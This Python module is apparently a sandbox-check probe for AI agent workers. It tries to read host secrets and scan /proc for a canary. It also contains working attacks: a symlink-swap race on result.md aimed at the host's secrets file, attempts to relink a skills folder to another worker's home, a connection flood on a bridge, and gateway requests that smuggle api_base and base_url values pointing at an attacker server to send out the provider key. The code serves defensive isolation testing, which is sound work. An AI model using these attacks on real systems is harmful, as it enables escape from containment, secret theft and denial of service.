"""The probe program ``hiclaw sandbox check`` runs inside a sandbox (and, as a baseline, on the host).

``python -m hiclaw.sandbox.probes PLAN.json`` tries each thing a sandbox must prevent, plus a few
things it must allow, and prints one line ``HICLAW-PROBE-RESULT {json}``: for every probe
``{"reached": bool, "detail": str}``. It never prints file contents, only whether a read
succeeded and whether the planted canary was in it. Stdlib only.

The plan (written by :mod:`hiclaw.sandbox.check`) names the paths, ports and canaries; verdicts
are computed on the host, which also checks which attempted writes really landed on the host.

With ``services`` in the plan (inside the sandbox only, never in the host baseline), the program
then attacks the services a worker reaches (:mod:`hiclaw.sandbox.service_probes` lists them; the
host's side is :mod:`hiclaw.sandbox.service_rig` and a module per attacked service): it swaps a
task's ``result.md`` for a link while the host reads it, tries to replace its skills folder
before the host installs a skill, floods a bridge with held connections, and sends
the gateway requests that smuggle provider parameters. Each step is coordinated with the host
over a bridged port (one JSON line each way, :func:`ask`): the host acts while the attack runs,
and the outcome is judged on the host. The results go under ``"services"``.
"""
from __future__ import annotations

import errno
import json
import os
import socket
import struct
import sys
import threading
import time
import urllib.error
import urllib.request
from pathlib import Path
from typing import Any

RESULT_PREFIX = "HICLAW-PROBE-RESULT "
TIMEOUT = 2.0


def _read(path: str, canary: str | None) -> tuple[bool, str]:
    try:
        data = Path(path).read_bytes()
    except OSError as exc:
        return False, f"{path}: {exc.strerror or type(exc).__name__}"
    if canary is not None and canary.encode() not in data:
        return False, f"{path}: readable but not the host's file (no canary)"
    return True, f"{path}: read"


def probe_reads(targets: list[dict[str, Any]]) -> dict[str, Any]:
    """Reached if any target file could be read (with its canary, when one was planted)."""
    details = []
    for target in targets:
        ok, detail = _read(target["path"], target.get("canary"))
        if ok:
            return {"reached": True, "detail": detail}
        details.append(detail)
    return {"reached": False, "detail": "; ".join(details) or "no targets"}


def probe_proc(canary: str) -> dict[str, Any]:
    """Reached if another process's environment or command line holds the host's canary."""
    needle = canary.encode()
    me = {str(os.getpid()), str(os.getppid())}
    seen = 0
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or entry in me:
            continue
        seen += 1
        for leaf in ("environ", "cmdline"):
            try:
                data = Path(f"/proc/{entry}/{leaf}").read_bytes()
            except OSError:
                continue
            if needle in data:
                return {"reached": True, "detail": f"/proc/{entry}/{leaf} holds the host canary"}
    try:
        first = Path("/proc/1/cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace").strip()
    except OSError as exc:
        first = exc.strerror or "unreadable"
    return {"reached": False, "detail": f"{seen} other processes visible; pid 1 is {first[:80]!r}; no canary"}


def probe_writes(targets: list[str], tag: str) -> dict[str, Any]:
    """Try to create a file in each folder; the host decides which writes really landed."""
    written = []
    for folder in targets:
        path = Path(folder) / f".hiclaw-probe-{tag}"
        try:
            path.write_text("probe")
            written.append(str(path))
        except OSError:
            continue
    return {"reached": bool(written), "detail": "wrote " + ", ".join(written) if written else "every write refused",
            "written": written}


def probe_modify(paths: list[str]) -> dict[str, Any]:
    """Reached if an existing read-only file can be opened for writing (nothing is written)."""
    refused = []
    for path in paths:
        try:
            fd = os.open(path, os.O_WRONLY | os.O_APPEND)
        except OSError as exc:
            refused.append(f"{path}: {exc.strerror}")
            continue
        os.close(fd)
        return {"reached": True, "detail": f"{path} is writable"}
    return {"reached": False, "detail": "; ".join(refused) or "no targets"}


def probe_tcp(port: int, canary: str) -> dict[str, Any]:
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=TIMEOUT) as conn:
            data = conn.recv(256)
    except OSError as exc:
        return {"reached": False, "detail": f"127.0.0.1:{port}: {exc.strerror or type(exc).__name__}"}
    if canary.encode() in data:
        return {"reached": True, "detail": f"127.0.0.1:{port} answered with the host's canary"}
    return {"reached": False, "detail": f"127.0.0.1:{port} answered, but not the host's service"}


def probe_abstract(name: str, canary: str) -> dict[str, Any]:
    try:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as conn:
            conn.settimeout(TIMEOUT)
            conn.connect("\0" + name)
            data = conn.recv(256)
    except OSError as exc:
        return {"reached": False, "detail": f"abstract socket @{name}: {exc.strerror or type(exc).__name__}"}
    return {"reached": canary.encode() in data, "detail": f"abstract socket @{name} answered"}


def probe_interfaces() -> dict[str, Any]:
    names = [name for _, name in socket.if_nameindex()]
    others = [n for n in names if n != "lo"]
    return {"reached": bool(others), "detail": "interfaces: " + (", ".join(names) or "none")}


def _dns_query(server: str, name: str) -> bytes:
    query = struct.pack(">HHHHHH", 0x4869, 0x0100, 1, 0, 0, 0)
    query += b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0" + struct.pack(">HH", 1, 1)
    family = socket.AF_INET6 if ":" in server else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as sock:
        sock.settimeout(TIMEOUT)
        sock.sendto(query, (server, 53))
        return sock.recv(512)


def probe_dns(name: str, servers: list[str]) -> dict[str, Any]:
    """Reached if the name resolves, or if any of the host's DNS servers answers at all."""
    try:
        addresses = {str(info[4][0]) for info in socket.getaddrinfo(name, 443, type=socket.SOCK_STREAM)}
        return {"reached": True, "detail": f"{name} resolved to {', '.join(sorted(addresses))}"}
    except OSError as exc:
        resolved = f"{name}: {exc.strerror or exc}"
    for server in servers:
        try:
            answer = _dns_query(server, name)
        except OSError as exc:
            resolved += f"; DNS server {server}: {exc.strerror or type(exc).__name__}"
            continue
        if answer[:2] == b"\x48\x69":
            return {"reached": True, "detail": f"DNS server {server} answered (rcode {answer[3] & 15})"}
    return {"reached": False, "detail": resolved}


def control_write_home(home: str, tag: str) -> dict[str, Any]:
    path = Path(home) / f".hiclaw-probe-home-{tag}"
    try:
        path.write_text(tag)
        ok = path.read_text() == tag
        path.unlink()
    except OSError as exc:
        return {"reached": False, "detail": f"{home}: {exc.strerror}"}
    return {"reached": ok, "detail": f"wrote and read back a file in {home}"}


def control_import() -> dict[str, Any]:
    try:
        import hiclaw
    except ImportError as exc:
        return {"reached": False, "detail": f"import hiclaw failed: {exc}"}
    return {"reached": True, "detail": f"imported hiclaw from {Path(hiclaw.__file__).parent}"}


# --------------------------------------------------------------------------- through the services


def ask(port: int, step: str, timeout: float = 120.0, **data: Any) -> dict[str, Any]:
    """One step with the host's check coordinator (a bridged port): a JSON line out, one back."""
    with socket.create_connection(("127.0.0.1", port), timeout=timeout) as conn:
        conn.sendall((json.dumps({"step": step, **data}) + "\n").encode())
        reply = b""
        while not reply.endswith(b"\n"):
            chunk = conn.recv(65536)
            if not chunk:
                break
            reply += chunk
    return json.loads(reply or b"{}")


def _errno(exc: OSError) -> str:
    return errno.errorcode.get(exc.errno or 0, type(exc).__name__)


def service_link_swap(plan: dict[str, Any], port: int) -> dict[str, Any]:
    """Swap ``result.md`` between a file and a link to the host's secrets file, as fast as it
    can, while the host reads it through the storage API."""
    result, target = plan["result"], plan["target"]
    folder = os.path.dirname(result)
    tmp_link, tmp_file = os.path.join(folder, ".swap-link"), os.path.join(folder, ".swap-file")
    stop, started = threading.Event(), threading.Event()
    state: dict[str, Any] = {"swaps": 0, "error": ""}

    def swapper() -> None:
        try:
            while not stop.is_set():
                try:
                    os.unlink(tmp_link)
                except FileNotFoundError:
                    pass
                os.symlink(target, tmp_link)
                os.replace(tmp_link, result)
                with open(tmp_file, "w") as fh:
                    fh.write(plan["content"])
                os.replace(tmp_file, result)
                state["swaps"] += 1
                started.set()
        except OSError as exc:
            state["error"] = f"{_errno(exc)} while swapping"
        finally:
            started.set()

    thread = threading.Thread(target=swapper, daemon=True)
    thread.start()
    started.wait(30)
    try:
        reply = ask(port, "link_swap", swapping=not state["error"])
    finally:
        stop.set()
        thread.join(30)
    return {"swaps": state["swaps"], "error": state["error"], "host": reply}


def service_skills(plan: dict[str, Any], port: int) -> dict[str, Any]:
    """Try every way to change its (read-only bound) skills folder into a link to another
    worker's home, then let the host install a skill there."""
    skills, link_to = plan["folder"], plan["link_to"]
    home = os.path.dirname(skills.rstrip("/"))
    attempts: dict[str, str] = {}

    def attempt(name: str, action: Any) -> None:
        try:
            action()
            attempts[name] = "done"
        except OSError as exc:
            attempts[name] = _errno(exc)

    def link_over() -> None:  # a link renamed over the folder
        staged = os.path.join(home, ".skills-link")
        try:
            os.unlink(staged)
        except FileNotFoundError:
            pass
        os.symlink(link_to, staged)
        os.replace(staged, skills)

    def link_instead() -> None:  # the folder moved away, a link in its place
        os.rename(skills, skills + ".moved")
        os.symlink(link_to, skills)

    def write_in() -> None:
        with open(os.path.join(skills, "planted.md"), "w") as fh:
            fh.write("planted by the worker")

    attempt("rename a link over it", link_over)
    attempt("move it and link in its place", link_instead)
    attempt("remove it", lambda: os.rmdir(skills))
    attempt("link inside it", lambda: os.symlink(link_to, os.path.join(skills, "planted-link")))
    attempt("write into it", write_in)
    return {"attempts": attempts, "host": ask(port, "skills", attempts=attempts)}


def _alive(conn: socket.socket) -> bool:
    try:
        return conn.recv(1, socket.MSG_PEEK | socket.MSG_DONTWAIT) != b""
    except BlockingIOError:
        return True
    except OSError:
        return False


def service_flood(plan: dict[str, Any], port: int) -> dict[str, Any]:
    """Open ``count`` connections to a bridged service (its bridge socket where there is one,
    else its port), each with an HTTP request never finished, and hold them while the host
    checks itself."""
    path, count = plan["socket"], plan["count"]
    via_socket = os.path.exists(path)
    begun = ask(port, "flood_begin")
    conns: list[socket.socket] = []
    failed = 0
    give_up = time.monotonic() + 30
    try:
        while len(conns) < count and failed < count and time.monotonic() < give_up:
            conn = socket.socket(socket.AF_UNIX if via_socket else socket.AF_INET, socket.SOCK_STREAM)
            # Blocking, so a full backlog is waited out (a unix socket's connect honours SO_SNDTIMEO).
            conn.setsockopt(socket.SOL_SOCKET, socket.SO_SNDTIMEO, struct.pack("ll", 2, 0))
            try:
                conn.connect(path if via_socket else ("127.0.0.1", plan["port"]))
            except OSError:
                conn.close()
                failed += 1
                continue
            conns.append(conn)
            try:
                conn.sendall(b"POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\n")  # never finished
                conn.setblocking(False)
            except OSError:
                pass  # already closed by the host (over its cap): it still counted as a connection
        via = f"bridge socket {path}" if via_socket else f"127.0.0.1:{plan['port']}"
        reply = ask(port, "flood_holding", opened=len(conns), failed=failed, via=via)
        held = sum(_alive(c) for c in conns)
    finally:
        for conn in conns:
            conn.close()
    return {"opened": len(conns), "failed": failed, "via": via, "held": held, "begun": begun, "host": reply}


def service_gateway(plan: dict[str, Any], port: int) -> dict[str, Any]:
    """Chat completions that try to send the provider key elsewhere: ``api_base``, ``base_url``,
    ``extra_headers`` (and the like) aimed at an attacker's server, on every route; plus one
    plain call per route (the control)."""
    ready = ask(port, "gateway")
    if not ready.get("ready"):
        return {"ready": False, "error": ready.get("error", "the gateway did not start"), "calls": []}
    attacker = plan["attacker"]
    cases: list[tuple[str, dict[str, Any]]] = [
        ("plain", {}),
        ("api_base", {"api_base": attacker}),
        ("base_url", {"base_url": attacker}),
        ("extra_headers", {"extra_headers": {"X-Hiclaw-Smuggled": "1"}, "base_url": attacker}),
        ("api_key", {"api_key": "sk-attacker", "base_url": attacker}),
        ("extra_body", {"extra_body": {"api_base": attacker}, "base_url": attacker}),
        ("nested", {"stream_options": {"include_usage": True, "api_base": attacker}}),
    ]
    calls = []
    for alias in plan["aliases"]:
        for name, extra in cases:
            body = {"model": alias, "messages": [{"role": "user", "content": "sandbox check"}], **extra}
            request = urllib.request.Request(  # noqa: S310 - http to the bridged gateway, from the plan
                plan["base_url"].rstrip("/") + "/chat/completions", data=json.dumps(body).encode(), method="POST",
                headers={"Authorization": "Bearer " + plan["token"], "Content-Type": "application/json"})
            try:
                with urllib.request.urlopen(request, timeout=60) as response:  # noqa: S310 - as above
                    status, text = response.status, response.read().decode(errors="replace")
            except urllib.error.HTTPError as exc:
                status, text = exc.code, exc.read().decode(errors="replace")
            except OSError as exc:
                status, text = 0, f"{type(exc).__name__}: {exc}"
            calls.append({"alias": alias, "case": name, "status": status, "text": text[:2000]})
    return {"ready": True, "calls": calls}


#: In this order: the link swap's thousands of host-side reads run best once the gateway has
#: finished importing litellm (which holds the host's GIL for seconds).
SERVICE_STEPS = (("skills", service_skills), ("flood", service_flood), ("gateway", service_gateway),
                 ("link_swap", service_link_swap))


def run_services(plan: dict[str, Any]) -> dict[str, Any]:
    """Each planned service attack, in order; one failing does not stop the others."""
    found: dict[str, Any] = {}
    for name, probe in SERVICE_STEPS:
        if name in plan:
            try:
                found[name] = probe(plan[name], plan["coordinator_port"])
            except Exception as exc:  # noqa: BLE001 - reported, judged "unverified" on the host
                found[name] = {"error": f"{type(exc).__name__}: {exc}"}
    return found


def run(plan: dict[str, Any]) -> dict[str, Any]:
    tag = plan["tag"]
    found = {
        "control_secrets": probe_reads(plan["secrets"]),
        "control_state": probe_reads(plan["state"]),
        "other_worker_home": probe_reads(plan["other_home"]),
        "host_home": probe_reads(plan["host_home"]),
        "proc_environ": probe_proc(plan["process_canary"]),
        "write_outside_home": probe_writes(plan["write_targets"], tag),
        "private_tmp": probe_writes(["/tmp"], tag),
        "modify_system_files": probe_modify(plan["readonly_files"]),
        "unbridged_port": probe_tcp(plan["unbridged_port"], plan["port_canary"]),
        "abstract_socket": probe_abstract(plan["abstract_name"], plan["port_canary"]),
        "network_interfaces": probe_interfaces(),
        "dns": probe_dns(plan["dns_name"], plan["dns_servers"]),
        "home_writable": control_write_home(plan["home"], tag),
        "bridge": probe_tcp(plan["bridge_port"], plan["bridge_canary"]),
        "granted_mount_readable": probe_reads(plan["granted"]),
        "hiclaw_importable": control_import(),
    }
    if "services" in plan:
        found["services"] = run_services(plan["services"])
    return found


def main(argv: list[str] | None = None) -> int:
    args = sys.argv[1:] if argv is None else argv
    if len(args) != 1:
        print("usage: python -m hiclaw.sandbox.probes PLAN.json", file=sys.stderr)
        return 2
    plan = json.loads(Path(args[0]).read_text())
    print(RESULT_PREFIX + json.dumps(run(plan)), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
